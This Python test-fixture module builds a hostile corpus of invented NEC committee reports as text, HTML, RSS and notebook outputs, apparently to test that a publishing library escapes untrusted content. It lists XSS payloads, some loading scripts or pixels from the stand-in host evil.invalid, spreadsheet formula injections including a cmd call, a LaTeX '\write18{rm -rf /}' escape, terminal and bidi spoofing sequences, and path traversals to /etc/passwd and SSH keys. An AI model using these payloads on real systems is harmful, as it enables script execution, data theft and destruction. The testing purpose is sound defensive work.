"""Pages of an invented committee whose every word is an attack: on browsers, terminals, spreadsheets and typesetters."""

from __future__ import annotations

import hashlib
import json
from html import escape
from pathlib import Path
from xml.sax.saxutils import escape as xml_escape

import nbformat
import pandas as pd
from written import save

from necdata.publishing import prose, readable

HOST = "evil.invalid"  # a name that no network has; a request for it is a finding
MARK = "owned"  # what a script that runs would set

SCRIPTS = [
    f"<script>window.{MARK}=1</script>",
    f'<img src=x onerror="window.{MARK}=1">',
    f'"><svg onload=window.{MARK}=1>',
    f"'-window.{MARK}=1-' onmouseover='window.{MARK}=1'",
    f"</td></tr></table><script src=//{HOST}/a.js></script>",
    f"</title></style></textarea><iframe srcdoc='<script>parent.{MARK}=1</script>'>",
    f"[press](javascript:window.{MARK}=1)",
    f"![seen](https://{HOST}/pixel.png)",
    f"<https://{HOST}/> and <a href=//{HOST}/ ping=//{HOST}/>here</a>",
    f'<style>@import "//{HOST}/a.css";</style><link rel=stylesheet href=//{HOST}/b.css>',
    f"<object data=//{HOST}/o></object><base href=//{HOST}/>",
    f"&lt;script&gt;window.{MARK}=1&lt;/script&gt;",
    f"]]><script>window.{MARK}=1</script><!--",
    f"`{{{{constructor.constructor('window.{MARK}=1')()}}}}`",
]
MATHS = [r"$\frac{1}{0}$", r"$\undefined", "$$", r"\write18{rm -rf /}", r"$_^{", r"\n\t\\", "100% {0} {x} %(x)s %s"]
FORMULAS = [
    f'=HYPERLINK("https://{HOST}/?"&A1;"press")', "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=cmd|' /C calc'!A0",
    f'=WEBSERVICE("https://{HOST}/")', "\t=1+1", "\r=1+1", " =1+1", '"=1+1', "＝1+1",
]  # fmt: skip
TERMINAL = [
    "\x1b[2J\x1b[H", f"\x1b]0;{MARK}\x07", "\x1b]8;;https://evil.invalid\x1b\\press\x1b]8;;\x1b\\", "\x9b31m", "\r", "\x08\x08",
    "\x07", "\u202etxt.exe", "\u2066a\u2069", "\u2028", "\x85", "\U000e0041", "\ue000", "\x7f",
]  # fmt: skip
TRAILS = [
    "../../../../etc/passwd",
    "..\\..\\x",
    "/etc/passwd",
    "C:\\x",
    "file:///etc/passwd",
    "a/../../b",
    "~/.ssh/id",
    "CON",
]
ATTACKS = [*SCRIPTS, *MATHS, *FORMULAS, *TERMINAL]

SUBJECTS = [
    "the general election and the by-election", "the leadership election and membership", "the health service and schools",
    "the trigger ballot, council tax and annual conference",
]  # fmt: skip
PLANTS = """beans leeks marrows sorrel chard kale beets onions garlic thyme sage mint dill fennel rhubarb quince medlar damson
plums pears apples figs currants sloes hops peas lupins asters dahlias stocks pinks poppies irises tulips squills violets
ferns mosses reeds""".split()
YEARS = ["2012", "2013", "2014", "2016", "2017", "2018", "2019", "2021", "2022", "2023"]
MONTHS = ["January", "March", "July", "September"]
AUTHORS = [
    f"Una {SCRIPTS[0]} Bright",
    f"Rafe {MATHS[0]} {SCRIPTS[1]}",
    f"=1+1 {TERMINAL[0]}Jo",
    f"{SCRIPTS[6]} {SCRIPTS[7]}",
]


def attack(number: int) -> str:
    """Give an attack in one line, each in its turn."""
    return " ".join(ATTACKS[number % len(ATTACKS)].split())


def planted(post: int, passage: int) -> str:
    """Give words that make a passage another one than the same of all other posts."""
    return " and ".join(PLANTS[(post * (k + 1) + passage * 5 + k * k) % len(PLANTS)] for k in range(12))


def posts() -> list[tuple[str, str, list[str]]]:
    """Write forty reports: title, heading and passages, an attack in each."""
    found = []
    days = [f"21 {month} {year}" for year in YEARS for month in MONTHS]
    for i, day in enumerate(days):
        said = [
            f"{attack(i + j)} The NEC heard of {subject}, then of {planted(i, j)}, and {attack(i + j + 7)} spoke at length."
            for j, subject in enumerate(SUBJECTS)
        ]
        found.append((f"NEC Report – {day} {attack(i)}"[:110], attack(i + 3)[:80], said))
    return found


def text_page(n: int, told: list[tuple[str, str, list[str]]]) -> str:
    """Set reports as an archive page of plain text; terminal escapes stand in it as they are."""
    parts = [f"Tag Archives: {attack(n)}", ""]
    for i, (title, heading, said) in enumerate(told):
        parts += [title, "", f"{TERMINAL[(n + i) % 3]}{heading}", "", *(p + "\n" for p in said), ""]
    return "\n".join(parts)


def html_page(told: list[tuple[str, str, list[str]]]) -> str:
    """Set reports as HTML, the attacks escaped as a careful site would, so that they are words of its posts."""
    posts = "".join(
        f"<article><h2>{escape(t)}</h2><h3>{escape(h)}</h3>\n" + "".join(f"<p>{escape(p)}</p>\n" for p in said)
        + "</article>" for t, h, said in told
    )  # fmt: skip
    return f"<!DOCTYPE html><html><head><title>{escape(SCRIPTS[5])}</title></head><body>{posts}</body></html>"


def feed_page(told: list[tuple[str, str, list[str]]]) -> str:
    """Set reports as a feed, with addresses that are none."""
    links = [
        f"javascript:window.{MARK}=1",
        "file:///etc/passwd",
        "../../../../etc/passwd",
        f"https://{HOST}/\x7f<script>",
    ]
    items = "".join(
        f"<item><title>{xml_escape(t)}</title><link>{xml_escape(links[i % 4])}</link><dc:creator>{xml_escape(AUTHORS[1])}</dc:creator>"
        f"<content:encoded>{xml_escape(''.join(f'<p>{escape(p)}</p>' for p in said))}</content:encoded></item>"
        for i, (t, _, said) in enumerate(told)
    )  # fmt: skip
    spaces = 'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/"'
    return f'<rss version="2.0" {spaces}><channel><title>{xml_escape(SCRIPTS[0])}</title>{items}</channel></rss>'


NAMES = ["=1+1 \x1b[2J.txt", "<img src=x onerror=owned=1>.txt", "\u202etxt.html", "$x$ `a` [b](javascript:owned=1).xml"]


def corpus(raw: Path) -> Path:
    """Fill a folder with hostile pages, a catalogue that names hostile authors and a ledger that leads out of it."""
    told = posts()
    pages = [
        text_page(0, told[:14]), text_page(1, told[14:24]), html_page(told[24:32]),
        feed_page(told[32:]).replace("\x1b", ""),
    ]  # fmt: skip
    said = []
    for name, text, author in zip(NAMES, pages, AUTHORS, strict=True):
        save(raw, name, text)
        digest = hashlib.sha256(text.encode()).hexdigest()
        said.append(f'[[page]]\nsha256 = "{digest}"\nfile = {json.dumps(name)}\nauthor = {json.dumps(author)}\n')
        said.append(f"url = {json.dumps(f'https://{HOST}/<script>')}\n")
    save(raw, "sources.toml", "\n".join(said))
    lines = [
        {"site": HOST, "url": "javascript:1", "status": 200, "sha256": "aa", "file": f, "posts": ["a"]} for f in TRAILS
    ]
    save(raw, "ledger.jsonl", "\n".join(map(json.dumps, lines)) + "\n")
    return raw


def notebook() -> nbformat.NotebookNode:
    """A notebook of which every output is an attack, in every form that an output has."""
    book = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(f"# {prose.plain(SCRIPTS[0])}")])
    for attack in ATTACKS:
        table = readable.table(pd.DataFrame({"a": [attack]}), attack or "-", attack)
        outputs = [
            nbformat.v4.new_output("stream", text=attack), nbformat.v4.new_output("display_data", {"text/plain": attack}),
            nbformat.v4.new_output("display_data", table._repr_mimebundle_()),
            nbformat.v4.new_output("display_data", {"text/markdown": prose.plain(attack)}),
            nbformat.v4.new_output("display_data", {"image/png": "AAAA"}, metadata={"image/png": {"alt": attack}}),
        ]  # fmt: skip
        book.cells.append(nbformat.v4.new_code_cell(attack, outputs=outputs))
    return book
